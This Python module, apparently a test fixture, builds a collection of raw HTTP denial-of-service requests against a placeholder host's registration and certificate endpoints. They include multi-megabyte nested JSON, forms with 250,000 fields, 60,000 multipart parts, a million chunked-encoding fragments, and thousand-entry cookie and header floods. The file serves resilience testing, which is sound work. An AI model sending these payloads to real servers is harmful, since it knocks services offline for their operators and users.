"""What a stranger sends to hold a server up: each a name and the bytes of one or many requests, to public addresses.

Found by attacking a running system, and others of their kind.
"""

from collections.abc import Mapping

MIB = 1024 * 1024
TOKENS = "/registration/api/tokens"
TEXT = "/certificate/api/check/text"
FORM = "/registration/sign-in"
FILE = "/certificate/check"
FILE_BEGINS = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
JSON, FIELDS = "application/json", "application/x-www-form-urlencoded"


def post(path: str, body: bytes, kind: str, *headers: str) -> bytes:
    """One request with `body`, after which the server may hang up."""
    head = [f"POST {path} HTTP/1.1", "Host: contoh.test", "Connection: close", f"Content-Type: {kind}", *headers]
    if not any(line.startswith("Transfer-Encoding") for line in headers):
        head.append(f"Content-Length: {len(body)}")
    return "\r\n".join(head).encode() + b"\r\n\r\n" + body


def get(*headers: str, path: str = "/registration/sign-in") -> bytes:
    """One request without a body."""
    return (
        "\r\n".join([f"GET {path} HTTP/1.1", "Host: contoh.test", "Connection: close", *headers]).encode() + b"\r\n\r\n"
    )


def parts(count: int) -> bytes:
    """A multipart body of `count` small parts."""
    return b"".join(b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' for _ in range(count)) + b"--b--\r\n"


BOMBS: Mapping[str, bytes] = {
    "12 MB of nested lists": post(TEXT, b"[" * (6 * MIB) + b"]" * (6 * MIB), JSON),
    "256 kB of nested lists": post(TEXT, b"[" * 131_000 + b"]" * 131_000, JSON),
    "9 MB of empty objects": post(TOKENS, b"[" + b"{}," * (3 * MIB) + b"{}]", JSON),
    "as many values as are taken": post(TOKENS, b"[" + b"{}," * 6_000 + b"{}]", JSON),
    "256 kB of quotes": post(TOKENS, b'"' * 262_000, JSON),
    "256 kB of digits": post(TOKENS, b"1" * 262_000, JSON),
    "a form of 250,000 fields": post(FORM, b"&".join(b"a%d=x" % at for at in range(250_000)), FIELDS),
    "a form as large as is taken": post(FORM, b"&".join(b"a%d=x" % at for at in range(2_999)), FIELDS),
    "a form of one large field": post(FORM, b"a=" + b"%41" * 170_000, FIELDS),
    "60,000 parts": post(FILE, parts(60_000), "multipart/form-data; boundary=b"),
    "12 MB of line ends in a part": post(
        FILE,
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
        + b"\r\n" * (5 * MIB)
        + b"\r\n--b--\r\n",
        "multipart/form-data; boundary=b",
    ),
    "a million chunks of a byte": post(TEXT, b"1\r\nx\r\n" * 1_000_000, JSON, "Transfer-Encoding: chunked"),
    "a query of thousands": get(path="/registration/sign-in?" + "&" * 7_000),
    "cookies by the thousand": get("Cookie: " + "a=b;" * 1_900),
    "languages by the thousand": get("Accept-Language: " + "a-b," * 1_900),
    "kinds by the thousand": get("Accept: " + "a/b," * 1_900),
    "a token of brackets": get("Authorization: Bearer " + "W1tb" * 1_900 + ".e30.AAAA"),
}
